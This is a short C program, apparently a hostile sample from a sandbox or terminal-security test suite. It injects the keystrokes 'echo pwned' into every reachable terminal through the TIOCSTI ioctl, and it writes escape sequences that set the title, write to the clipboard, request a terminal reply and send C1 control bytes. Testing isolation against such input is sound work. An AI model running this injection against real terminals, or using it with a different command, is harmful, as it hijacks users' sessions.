/* Types at every terminal that it can reach, and writes what would command
 * one: a title, a clipboard, a question, C1 bytes. */
#include "hostile.h"

#include <sys/ioctl.h>

static const char written[] = "\033]0;pwned\a\033]52;c;cHduZWQ=\a\033[6n"
    "\033[?1049h\302\2330m\2330m\033c";

static void type(int fd)
{
	static const char line[] = "echo pwned\n";

	for (size_t i = 0; i < sizeof line - 1; i++)
		ioctl(fd, TIOCSTI, &line[i]);
}

int main(void)
{
	refuse_outside();
	for (int fd = 0; fd < 1024; fd++)
		type(fd);
	type(open("/dev/tty", O_RDWR | O_NOCTTY));
	return write(1, written, sizeof written - 1) < 0;
}
